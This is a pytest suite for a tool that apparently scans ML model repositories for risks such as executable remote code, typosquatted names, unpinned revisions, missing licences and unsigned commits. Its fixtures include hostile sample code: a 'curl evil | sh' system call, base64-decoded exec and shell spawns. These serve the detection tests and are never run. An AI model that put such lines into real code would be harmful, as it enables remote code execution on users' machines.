"""Repository-level risk checks: remote code, look-alikes, pins, licence, signatures."""

from __future__ import annotations

import json
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from ptmscope.records import (
    CardRecord,
    CommitRecord,
    CommitSha,
    FileRecord,
    Finding,
    Outcome,
    Platform,
    RepoRecord,
    Severity,
    repo_id,
)
from ptmscope.risk.repo_checks import REPO_CHECKS, run_repo_checks
from ptmscope.risk.repo_checks.lookalike import find_lookalikes, popular_ids, skeleton
from ptmscope.risk.repo_checks.pyast import AST_FILENAME


def make_repo(tmp_path: Path, files: dict[str, str], name: str = "acme/model",
              platform: Platform = Platform.HUGGINGFACE) -> tuple[RepoRecord, list[FileRecord]]:
    rid = repo_id(platform, name)
    records = []
    for path, text in files.items():
        full = tmp_path / path
        full.parent.mkdir(parents=True, exist_ok=True)
        full.write_text(text)
        records.append(FileRecord(rid, path, len(text), local_path=str(full)))
    return RepoRecord(rid, platform, name, str(tmp_path)), records


def by_rule(findings: list[Finding], rule: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule]


def card(rid: str, metadata: dict[str, object] | None) -> CardRecord:
    return CardRecord(repo_id(Platform.HUGGINGFACE, rid.split(":", 1)[-1]), "README.md", "",
                      None if metadata is None else "x", metadata, "")


def test_every_registered_check_is_self_describing() -> None:
    ids = [c.id for c in REPO_CHECKS]
    assert len(ids) == len(set(ids))
    for check in REPO_CHECKS:
        assert check.title and check.why and check.remedy and check.id.startswith("REPO-")


MODELING = '''
import base64, os as o
from subprocess import Popen as P
import torch

o.system("curl evil | sh")

def forward():
    P(["id"])
    exec(base64.b64decode("cHJpbnQoMSk="))
    getattr(o, "popen")("id")
    torch.load("w.bin", weights_only=True)
'''


def test_auto_map_code_is_scanned_with_ast(tmp_path: Path) -> None:
    config = {"auto_map": {"AutoModel": "modeling_evil.EvilModel",
                           "AutoConfig": "other/repo--configuration_x.XConfig"}}
    repo, files = make_repo(tmp_path, {"config.json": json.dumps(config),
                                       "modeling_evil.py": MODELING + "from .helpers import x\n",
                                       "helpers.py": "import socket\nsocket.socket()\n"})
    findings = by_rule(run_repo_checks(repo, None, files, []), "REPO-REMOTE-CODE")
    calls = {(f.details["evidence"]["call"], f.severity, f.details["evidence"]["at_import"])
             for f in findings if "evidence" in f.details and "call" in f.details["evidence"]}
    assert ("os.system", Severity.HIGH, True) in calls
    assert ("subprocess.Popen", Severity.HIGH, False) in calls
    assert ("exec(decode(...))", Severity.CRITICAL, False) in calls
    assert ("os.popen", Severity.HIGH, False) in calls
    assert ("socket.socket", Severity.HIGH, True) in calls  # followed through a relative import
    assert not any(c[0] == "torch.load" for c in calls)
    assert any("another repository" in f.message and f.severity is Severity.HIGH
               for f in findings)


def test_no_auto_map_is_not_applicable_and_broken_code_is_an_error(tmp_path: Path) -> None:
    repo, files = make_repo(tmp_path, {"config.json": '{"model_type": "bert"}'})
    [finding] = by_rule(run_repo_checks(repo, None, files, []), "REPO-REMOTE-CODE")
    assert finding.outcome is Outcome.NOT_APPLICABLE
    repo, files = make_repo(tmp_path, {
        "config.json": '{"auto_map": {"AutoModel": "m.X"}}', "m.py": "def (:\n"})
    outcomes = {f.outcome for f in by_rule(run_repo_checks(repo, None, files, []),
                                           "REPO-REMOTE-CODE")}
    assert Outcome.ERROR in outcomes


def test_remote_code_is_never_executed(tmp_path: Path) -> None:
    events: list[str] = []
    active = [True]

    def hook(event: str, args: tuple[object, ...]) -> None:
        if not active[0]:
            return
        if event == "compile" and args[1:2] == (AST_FILENAME,):
            return  # ast.parse: syntax tree only
        if event in ("exec", "compile", "os.system", "subprocess.Popen", "socket.connect") \
                or (event == "import" and args and args[0] in ("modeling_evil", "helpers")):
            events.append(event)

    sys.addaudithook(hook)
    try:
        test_auto_map_code_is_scanned_with_ast(tmp_path)
    finally:
        active[0] = False
    assert events == []


@pytest.mark.parametrize("name,kind,severity", [
    ("googIe-bert/bert-base-uncased", "homoglyph", Severity.HIGH),
    ("rneta-llama/Llama-2-7b-hf", "homoglyph", Severity.HIGH),
    ("meta_llama/Llama-2-7b-hf", "homoglyph", Severity.HIGH),
    ("meta-llаma/Llama-2-7b-hf", "homoglyph", Severity.HIGH),  # Cyrillic а
    ("openal/whisper-large-v3", "typosquatted-owner", Severity.HIGH),
    ("meta-llama-official/Llama-2-7b-hf", "typosquatted-owner", Severity.HIGH),
    ("bert-base-uncased/google-bert", "swapped", Severity.MEDIUM),
    ("someuser/whisper-large-v3", "re-upload", Severity.LOW),
])
def test_lookalikes(name: str, kind: str, severity: Severity) -> None:
    found = find_lookalikes(name, popular_ids())
    assert any(f.kind == kind and f.severity is severity for f in found), found


@pytest.mark.parametrize("name", ["google-bert/bert-base-uncased", "GOOGLE-BERT/bert-base-uncased",
                                  "acme/totally-new-model", "TheBloke/Llama-2-7B-Chat-GGUF",
                                  "unsloth/Qwen2.5-7B-Instruct"])
def test_popular_or_unrelated_names_are_not_lookalikes(name: str) -> None:
    assert [f for f in find_lookalikes(name, popular_ids()) if f.severity.rank < 3] == []


def test_popular_list_is_shipped_and_large() -> None:
    ids = popular_ids()
    assert len(ids) >= 300 and "meta-llama/Llama-2-7b-hf" in ids
    assert skeleton("rn") == skeleton("m") and skeleton("0I") == skeleton("ol")


def test_lookalike_check_through_the_runner(tmp_path: Path) -> None:
    repo, files = make_repo(tmp_path, {}, name="googIe-bert/bert-base-uncased")
    [finding] = by_rule(run_repo_checks(repo, None, files, []), "REPO-LOOKALIKE-NAME")
    assert finding.severity is Severity.HIGH and finding.outcome is Outcome.MISSING
    gh, files = make_repo(tmp_path, {}, name="google-research/bert", platform=Platform.GITHUB)
    [finding] = by_rule(run_repo_checks(gh, None, files, []), "REPO-LOOKALIKE-NAME")
    assert finding.outcome is Outcome.NOT_APPLICABLE


UNPINNED = '''
from transformers import AutoModel
from huggingface_hub import hf_hub_download, snapshot_download
import torch
a = AutoModel.from_pretrained("org/base")
b = AutoModel.from_pretrained("org/base", revision="main")
c = hf_hub_download(repo_id="org/base", filename="x", revision="v1.0")
d = snapshot_download("org/base", revision="0123456789abcdef0123456789abcdef01234567")
e = torch.hub.load("owner/repo", "model")
f = torch.hub.load("owner/repo:0123456789abcdef0123456789abcdef01234567", "model")
g = AutoModel.from_pretrained(path_variable)
h = AutoModel.from_pretrained("./local_dir")
i = AutoModel.from_pretrained("org/remote", trust_remote_code=True)
'''


def test_unpinned_downloads(tmp_path: Path) -> None:
    repo, files = make_repo(tmp_path, {"train.py": UNPINNED})
    findings = by_rule(run_repo_checks(repo, None, files, []), "REPO-UNPINNED-REVISION")
    got = sorted(((f.location, f.severity.value) for f in findings),
                 key=lambda x: int(str(x[0]).split()[1]))
    assert got == [("line 5", "medium"), ("line 6", "medium"), ("line 7", "low"),
                   ("line 9", "medium"), ("line 13", "high")]
    repo, files = make_repo(tmp_path / "clean", {"ok.py": "x = 1\n"})
    [clean] = by_rule(run_repo_checks(repo, None, files, []), "REPO-UNPINNED-REVISION")
    assert clean.outcome is Outcome.PRESENT


def test_licence(tmp_path: Path) -> None:
    repo, files = make_repo(tmp_path, {})
    [none] = by_rule(run_repo_checks(repo, None, files, []), "REPO-NO-LICENCE")
    assert none.outcome is Outcome.MISSING and "no model card" in none.message
    no_key = card(repo.repo_id, {"tags": ["x"]})
    [missing] = by_rule(run_repo_checks(repo, no_key, files, []), "REPO-NO-LICENCE")
    assert "metadata has no license" in missing.message
    with_key = card(repo.repo_id, {"license": "apache-2.0"})
    [present] = by_rule(run_repo_checks(repo, with_key, files, []), "REPO-NO-LICENCE")
    assert present.outcome is Outcome.PRESENT
    repo, files = make_repo(tmp_path / "f", {"LICENSE.txt": "MIT"})
    [by_file] = by_rule(run_repo_checks(repo, no_key, files, []), "REPO-NO-LICENCE")
    assert by_file.outcome is Outcome.PRESENT


def commit(i: int, signed: bool) -> CommitRecord:
    when = datetime(2024, 1, 1, tzinfo=UTC)
    return CommitRecord(repo_id(Platform.HUGGINGFACE, "acme/model"), CommitSha(f"{i:040x}"),
                        "a", "a@x", when, "a", "a@x", when, "msg", signed=signed)


@pytest.mark.parametrize("signed,outcome", [([True, True], Outcome.PRESENT),
                                            ([True, False], Outcome.PARTIAL),
                                            ([False], Outcome.MISSING),
                                            ([], Outcome.NOT_APPLICABLE)])
def test_signed_commit_share(tmp_path: Path, signed: list[bool], outcome: Outcome) -> None:
    repo, files = make_repo(tmp_path, {})
    commits = [commit(i, s) for i, s in enumerate(signed)]
    [finding] = by_rule(run_repo_checks(repo, None, files, commits), "REPO-SIGNED-COMMITS")
    assert finding.outcome is outcome and finding.severity is Severity.INFO


def test_a_failing_check_becomes_an_error_finding(tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    repo, files = make_repo(tmp_path, {})
    failing: Callable[..., list[Finding]] = lambda facts: 1 / 0  # noqa: E731
    broken = (REPO_CHECKS[0].__class__(**{**{f: getattr(REPO_CHECKS[0], f) for f in (
        "id", "title", "why", "remedy", "severity")}, "run": failing}),)
    monkeypatch.setattr("ptmscope.risk.repo_checks.REPO_CHECKS", broken + REPO_CHECKS[1:])
    findings = run_repo_checks(repo, None, files, [])
    assert findings[0].outcome is Outcome.ERROR and len(findings) == len(REPO_CHECKS)


def test_symlink_out_of_the_repo_and_fifo_are_not_read(tmp_path: Path) -> None:
    import os

    repo, files = make_repo(tmp_path, {"config.json": "{}"})
    os.unlink(tmp_path / "config.json")
    os.symlink("/etc/hostname", tmp_path / "config.json")
    fifo = tmp_path / "modeling.py"
    os.mkfifo(fifo)
    files.append(FileRecord(repo.repo_id, "modeling.py", 0, local_path=str(fifo)))
    findings = run_repo_checks(repo, None, files, [])  # must return, not block
    assert by_rule(findings, "REPO-REMOTE-CODE")[0].outcome is Outcome.NOT_APPLICABLE


def test_repo_rules_mirror_the_registry() -> None:
    from ptmscope.risk.repo_checks import repo_rules

    assert [r.id for r in repo_rules()] == [c.id for c in REPO_CHECKS]
    assert all(r.title and r.why and r.fix for r in repo_rules())


def test_hf_cache_snapshot_links_into_blobs_are_read(tmp_path: Path) -> None:
    from ptmscope.risk.repo_checks.base import read_text_bounded

    entry = tmp_path / "models--org--name"
    (entry / "blobs").mkdir(parents=True)
    snap = entry / "snapshots" / "abc"
    snap.mkdir(parents=True)
    (entry / "blobs" / "h1").write_text('{"auto_map": {}}')
    (snap / "config.json").symlink_to("../../blobs/h1")
    (tmp_path / "secret").write_text("x")
    (snap / "leak.py").symlink_to(tmp_path / "secret")
    rid = repo_id(Platform.HUGGINGFACE, "org/name")
    ok = FileRecord(rid, "config.json", local_path=str(snap / "config.json"))
    leak = FileRecord(rid, "leak.py", local_path=str(snap / "leak.py"))
    assert read_text_bounded(ok, str(snap)) == '{"auto_map": {}}'
    assert read_text_bounded(leak, str(snap)) is None
